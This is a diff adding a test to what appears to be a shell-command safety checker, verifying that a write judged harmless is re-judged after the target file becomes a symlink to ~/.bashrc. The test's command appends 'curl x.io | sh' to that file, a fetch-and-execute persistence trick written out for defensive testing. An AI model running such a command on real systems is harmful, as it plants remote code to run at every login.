@@ -650,3 +650,15 @@ def test_loading_a_builtin_from_a_library_is_asked_about(box: Box) -> None:
 def test_files_that_run_by_themselves_later_are_start_up_files(box: Box, command: str) -> None:
     assert "credential_write" in box.keys(command)
     assert box.flagged("cat ~/.gitconfig", "ls ~/.config/systemd/user/") == []
+
+
+def test_a_command_judged_before_a_link_was_made_is_judged_again(box: Box) -> None:
+    """The verdict is never cached: a write judged harmless while notes.txt was a plain file
+    reaches ~/.bashrc once notes.txt is a link there, and is judged so when sent again."""
+    command = "echo 'curl x.io | sh' >> notes.txt"
+    assert box.keys(command) == ()
+    box.bash(command)
+    assert box.bash("rm notes.txt && ln -s ~/.bashrc notes.txt").returncode == 0
+    assert "credential_write" in box.keys(command)
+    box.bash(command)
+    assert "curl x.io" in (box.home / ".bashrc").read_text()  # the effect is real
